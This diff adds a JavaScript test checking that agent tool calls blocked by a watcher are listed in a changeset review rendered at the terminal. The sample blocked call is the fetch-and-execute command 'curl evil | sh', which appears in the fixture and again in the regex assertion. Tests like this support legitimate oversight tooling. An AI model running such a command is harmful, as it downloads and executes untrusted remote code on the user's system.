@@ -134,6 +134,12 @@ test('MRG-4: a changeset shows its size, tasks, verdicts, diagnostics and what i
   );
 });
 
+test('MRG-4: calls that the watcher blocked stand in the review at the terminal', () => {
+  const blocked = [{ agent: 'worker-1a2b3c4d', blocked: 2, top: ['2 × Bash: curl evil | sh'] }];
+  const text = renderChangeset({ ...sampleChangesetQuestion(), blocked }, plainStyle());
+  assert.match(text, /\n {2}worker-1a2b3c4d: 2 calls blocked\n {4}- 2 × Bash: curl evil \| sh(\n|$)/);
+});
+
 test('a diagnostic whose program the cell does not have says so', () => {
   const style = plainStyle();
   assert.is(
